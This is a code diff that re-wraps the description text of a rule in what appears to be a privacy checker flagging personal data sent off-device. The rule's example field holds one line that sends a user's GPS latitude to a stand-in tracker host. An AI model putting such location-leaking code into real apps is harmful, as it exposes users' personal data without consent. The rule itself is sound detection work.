@@ -93,9 +93,9 @@ def _always(severity: Severity) -> Judgment:
     description="""A value returned by a sensitive API (location, phone number, profile, clipboard, address,
     device identifiers...) was found in a request, upload or socket message, also after JSON, URL, base64 or hex
     encoding, rounding, reversal or character codes; or the message changed when a second walk changed only the
-    sensitive values (any other transform, or a branch on the value). Sending it to a domain outside the allow-list is an error; sending it without the user's
-    consent or without declaring the scope is a warning; an allow-listed domain after consent and declaration is
-    fine.""",
+    sensitive values (any other transform, or a branch on the value). Sending it to a domain outside the allow-list
+    is an error; sending it without the user's consent or without declaring the scope is a warning; an
+    allow-listed domain after consent and declaration is fine.""",
     fix="""Send personal data only to your own declared domains, only after the user agreed, and only what the
     feature needs (e.g. round coordinates server-side, never upload the clipboard).""",
     example="tt.getLocation({success: r => tt.request({url: 'https://tracker.example/?lat=' + r.latitude})})",
